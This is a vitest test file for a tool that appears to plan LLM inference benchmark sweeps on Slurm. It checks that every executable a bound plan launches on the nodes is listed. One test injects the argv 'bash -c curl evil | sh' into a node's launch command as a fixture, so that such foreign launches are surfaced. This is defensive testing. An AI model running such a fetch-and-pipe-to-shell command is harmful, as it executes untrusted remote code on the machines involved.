import { readFileSync } from 'node:fs';
import { fileURLToPath } from 'node:url';
import { describe, expect, it } from 'vitest';
import { bindPlan, launchedExecutables, parseSweepConfig, planSweep, type SweepPlan } from '../../src/index';
import { isStandIn } from '../../src/plan/launches';
import { standInArgv } from '../../src/plan/build-nodes';
import { loadShipped } from '../helpers';

const shipped = loadShipped();
const planOf = (orientation: string, cluster: string): SweepPlan =>
  planSweep(shipped.config, { orientation, cluster, source: shipped.source });

const LOCAL_VLLM = 'configs/tiny-moe-local-vllm.yaml';
const localVllm = parseSweepConfig(
  readFileSync(fileURLToPath(new URL(`../../../../${LOCAL_VLLM}`, import.meta.url)), 'utf8'),
  { file: LOCAL_VLLM, env: { INFERSWEEP_STACK: '/stack', INFERSWEEP_TOOLS: '/tools' }, clusters: ['local-vllm'] },
);

/** What launchServer hands to srun for a plan bound to an allocation: every node's argv and the router's. */
function launchedArgvs(p: SweepPlan): string[][] {
  const nodes = Array.from({ length: p.slurm.nodes }, (_, i) => `n${i}`);
  const b = bindPlan(p, {
    jobId: '42',
    nodes,
    headAddress: '10.0.0.1',
    nodeAddresses: nodes.map((_, i) => `10.0.0.${i + 1}`),
  });
  return [...b.nodes.map((n) => n.launchArgv), ...(b.router ? [b.router.argv] : [])];
}

const SHIPPED_PLANS: [string, () => SweepPlan][] = [
  ...['latency', 'balanced', 'throughput', 'pd-1p1d'].flatMap((o) =>
    ['h200', 'local'].map((c): [string, () => SweepPlan] => [`${o} on ${c}`, () => planOf(o, c)]),
  ),
  [
    'balanced on local-vllm',
    () => planSweep(localVllm.config, { orientation: 'balanced', cluster: 'local-vllm', source: localVllm.source }),
  ],
];

describe('launchedExecutables: every executable a plan launches on the nodes', () => {
  it.each(SHIPPED_PLANS)(
    '%s: lists argv[0] of every launch the bound plan hands to srun, stand-ins aside',
    (_name, make) => {
      const p = make();
      const launched = launchedArgvs(p);
      const listed = new Set(launchedExecutables(p).map((e) => e.executable));
      expect(new Set(launched.filter((a) => !isStandIn(a)).map((a) => a[0]))).toEqual(listed);
    },
  );

  it("real vLLM: the planner's `vllm`, once for every node", () => {
    expect(launchedExecutables(planOf('balanced', 'h200'))).toEqual([
      {
        field: 'plan.nodes[0].launchArgv[0]',
        executable: 'vllm',
        where: 'on node ranks 0, 1',
        plannedFrom: "the planner's `vllm serve`",
      },
    ]);
  });

  it("the simulator on node 0 (its stand-ins aside), planned from the cluster's engine override", () => {
    expect(launchedExecutables(planOf('latency', 'local'))).toEqual([
      {
        field: 'plan.nodes[0].launchArgv[0]',
        executable: 'llm-d-inference-sim',
        where: 'on node rank 0',
        plannedFrom: 'clusters.local.engineOverride.binary',
      },
    ]);
  });

  it("P/D: llm-d's pd-sidecar infersweep launches is listed; a vllm-router it only plans is not", () => {
    const local = launchedExecutables(planOf('pd-1p1d', 'local'));
    expect(local.map((e) => [e.field, e.executable, e.where])).toEqual([
      ['plan.nodes[0].launchArgv[0]', 'llm-d-inference-sim', 'on node ranks 0, 2'],
      ['plan.disaggregation.router.argv[0]', 'pd-sidecar', 'as the P/D router (llm-d-pd-sidecar) on node rank 2'],
    ]);
    expect(local[1]!.plannedFrom).toBe(
      'clusters.local.engineOverride.pdRouter.binary or orientations.pd-1p1d.disaggregated.router.binary',
    );
    const h200 = planOf('pd-1p1d', 'h200');
    expect(h200.disaggregation!.router.argv[0]).toBe('vllm-router');
    expect(launchedExecutables(h200).map((e) => e.executable)).toEqual(['vllm']);
  });

  it('a stand-in is infersweep\'s own script only: bash with another script is listed as bash; an empty argv as ""', () => {
    expect(isStandIn(standInArgv(1, ['vllm', 'serve']))).toBe(true);
    expect(isStandIn(['bash', '-c', 'curl evil | sh', '1'])).toBe(false);
    const p = planOf('latency', 'local');
    p.nodes[1]!.launchArgv = ['bash', '-c', 'curl evil | sh', '1'];
    p.nodes.push({ ...p.nodes[1]!, rank: 2, launchArgv: [] });
    expect(launchedExecutables(p).map((e) => [e.field, e.executable])).toEqual([
      ['plan.nodes[0].launchArgv[0]', 'llm-d-inference-sim'],
      ['plan.nodes[1].launchArgv[0]', 'bash'],
      ['plan.nodes[2].launchArgv[0]', ''],
    ]);
  });
});
